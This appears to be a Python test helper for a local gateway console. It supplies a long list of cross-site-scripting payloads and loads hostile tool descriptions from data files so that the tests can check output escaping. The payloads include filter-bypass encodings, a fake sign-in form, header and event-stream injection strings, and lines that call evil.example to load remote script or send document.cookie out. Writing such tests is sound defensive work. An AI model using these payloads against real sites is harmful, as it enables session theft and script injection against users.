"""Texts that execute a script where a page does not escape them, and hostile tool descriptions from a data folder."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

from local_gateway import ROOT

#: Each element that a payload would create has the attribute `data-xss`, so that it is found even if nothing executes.
_TEMPLATES = r"""
<script data-xss>{js}</script>
<SCRIPT data-xss>{js}</SCRIPT>
<script data-xss src=//evil.example/x.js></script>
<script data-xss src="data:text/javascript,{js}"></script>
</title><script data-xss>{js}</script>
</textarea><script data-xss>{js}</script>
</script><script data-xss>{js}</script>
</style><script data-xss>{js}</script>
</option></select><img data-xss src=x onerror={js}>
--><img data-xss src=x onerror={js}>
<!--<img data-xss src="--><img data-xss src=x onerror={js}//">
<img data-xss src=x onerror={js}>
<img data-xss src=x onerror="{js}">
<img data-xss src=x onerror='{js}'>
<img data-xss src=x onerror=`{js}`>
<img/data-xss/src=x/onerror={js}>
<img data-xss src="javascript:{js}">
<image data-xss src=x onerror={js}>
<svg data-xss onload={js}>
<svg data-xss/onload={js}>
<svg data-xss><script>{js}</script></svg>
<svg data-xss><animate onbegin={js} attributeName=x dur=1s>
<svg data-xss><a xlink:href="javascript:{js}"><text x=20 y=20>x</text></a></svg>
<svg data-xss><foreignObject><iframe srcdoc="<script>parent.{js}</script>"></iframe></foreignObject></svg>
<svg data-xss><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{js}</script></svg>#x"/></svg>
<svg data-xss><style><img src=x onerror={js}></style></svg>
<math data-xss><mtext><table><mglyph><style><img data-xss src=x onerror={js}></style></mglyph></table></mtext></math>
<body data-xss onload={js}>
<body data-xss onpageshow={js}>
<iframe data-xss src="javascript:{js}"></iframe>
<iframe data-xss srcdoc="<script>parent.{js}</script>"></iframe>
<object data-xss data="javascript:{js}"></object>
<embed data-xss src="javascript:{js}">
<a data-xss href="javascript:{js}">click</a>
<a data-xss href="java&#x09;script:{js}">click</a>
<a data-xss href="&#106;avascript:{js}">click</a>
<a data-xss href=" javascript:{js}">click</a>
<a data-xss href="data:text/html,<script>{js}</script>">click</a>
<form data-xss action="javascript:{js}"><input type=submit></form>
<form data-xss action=//evil.example><button>Sign in again</button></form>
<button data-xss form=x formaction="javascript:{js}">go</button>
<input data-xss autofocus onfocus={js}>
<select data-xss autofocus onfocus={js}>
<textarea data-xss autofocus onfocus={js}></textarea>
<details data-xss open ontoggle={js}>
<video data-xss><source onerror={js}></video>
<audio data-xss src=x onerror={js}>
<marquee data-xss onstart={js}>x</marquee>
<meta data-xss http-equiv=refresh content="0;url=javascript:{js}">
<meta data-xss http-equiv=refresh content="0;url=//evil.example/">
<base data-xss href=//evil.example/>
<link data-xss rel=stylesheet href=//evil.example/x.css>
<style data-xss>@import "//evil.example/x.css";</style>
<div data-xss style="background:url(//evil.example/x)">x</div>
<div data-xss onmouseover={js} style="position:fixed;inset:0">x</div>
<template data-xss><script>{js}</script></template>
<noscript><p title="</noscript><img data-xss src=x onerror={js}>"></noscript>
<xss-element data-xss onclick={js} tabindex=1>x</xss-element>
<frameset data-xss onload={js}>
<isindex data-xss type=image src=1 onerror={js}>
" onmouseover={js} data-xss x="
' onmouseover={js} data-xss x='
" autofocus onfocus={js} data-xss x="
"><script data-xss>{js}</script>
'><script data-xss>{js}</script>
"><img data-xss src=x onerror={js}>
` onmouseover={js} data-xss
javascript:{js}
JaVaScRiPt:{js}
java	script:{js}
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
//evil.example/x
http://evil.example/"onclick={js}
';{js};//
";{js};//
\';{js};//
\u003cimg data-xss src=x onerror={js}\u003e
</script>{js}<script>
${{{js}}}
{{{{constructor.constructor('{js}')()}}}}
{{%raw%}}<img data-xss src=x onerror={js}>{{%endraw%}}
&lt;img data-xss src=x onerror={js}&gt;
&#60;img data-xss src=x onerror={js}&#62;
%3Cimg%20data-xss%20src%3Dx%20onerror%3D{js}%3E
<img data-xss src=x:x onerror={js}//
<scr<script>ipt data-xss>{js}</scr</script>ipt>
<<script data-xss>{js}//<</script>
＜script data-xss＞{js}＜/script＞
]]><script data-xss>{js}</script>
<![CDATA[<script data-xss>{js}</script>]]>
<?xml version="1.0"?><html:script data-xss xmlns:html="http://www.w3.org/1999/xhtml">{js}</html:script>
[click](javascript:{js})
![x](x"onerror="{js})
<img data-xss src=x onerror=import('//evil.example/x.js')>
<img data-xss src=x onerror=fetch('//evil.example/'+document.cookie)>
"""
#: Characters that hide or reorder text, and those that end strings and lines of JavaScript, JSON and event streams.
_CHARACTERS = [
    "\u202egnp.<img data-xss src=x onerror=alert(1)>\u202c",
    "<img\u0000 data-xss src=x onerror=alert(1)>",
    "<\u200bscript data-xss>alert(1)</script>",
    "line\u2028separator<script data-xss>alert(1)</script>\u2029",
    'data: {"type":"run_ended"}\n\nevent: run_ended\ndata: <img data-xss src=x onerror=alert(1)>\n\n',
    "\r\nSet-Cookie: toolyard_console=stolen\r\n\r\n<script data-xss>alert(1)</script>",
    "\u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007",
    "\U000e003c\U000e0073\U000e0063\U000e0072\U000e0069\U000e0070\U000e0074\U000e003e",
]


def payloads() -> list[str]:
    """The classic payloads; each calls `alert` with its number."""
    lines = [line for line in _TEMPLATES.splitlines() if line.strip()]
    texts = [line.format(js=f"alert({number})") for number, line in enumerate(lines)]
    return texts + _CHARACTERS


def data_texts() -> list[str]:
    """All strings of the files security/*.jsonl of $TOOLYARD_DATA, or of ../shared/data if it is there."""
    folder = Path(os.environ.get("TOOLYARD_DATA", ROOT.parent / "shared/data"))
    texts: dict[str, None] = {}
    for file in sorted(folder.glob("security/*.jsonl")):
        for line in file.read_text().splitlines():
            if line.strip():
                texts.update(dict.fromkeys(_strings(json.loads(line))))
    return list(texts)


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, each in value.items():
            yield name
            yield from _strings(each)
    elif isinstance(value, list):
        for each in value:
            yield from _strings(each)
